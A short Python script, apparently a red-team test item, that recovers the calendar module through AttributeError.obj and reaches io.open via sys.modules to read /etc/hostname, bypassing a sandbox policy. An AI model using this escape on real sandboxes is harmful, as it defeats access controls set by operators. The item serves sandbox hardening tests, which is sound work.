# family: red team, round 38 (exceptions carrying objects: AttributeError.obj of a policy name missing in 3.11)
import calendar


def first_month():
    try:
        return calendar.JANUARY
    except AttributeError as problem:
        return problem.obj


def read(path):
    home = first_month()
    stream = home.sys.modules["io"].open(path)
    return stream.read()


print(read("/etc/hostname"))
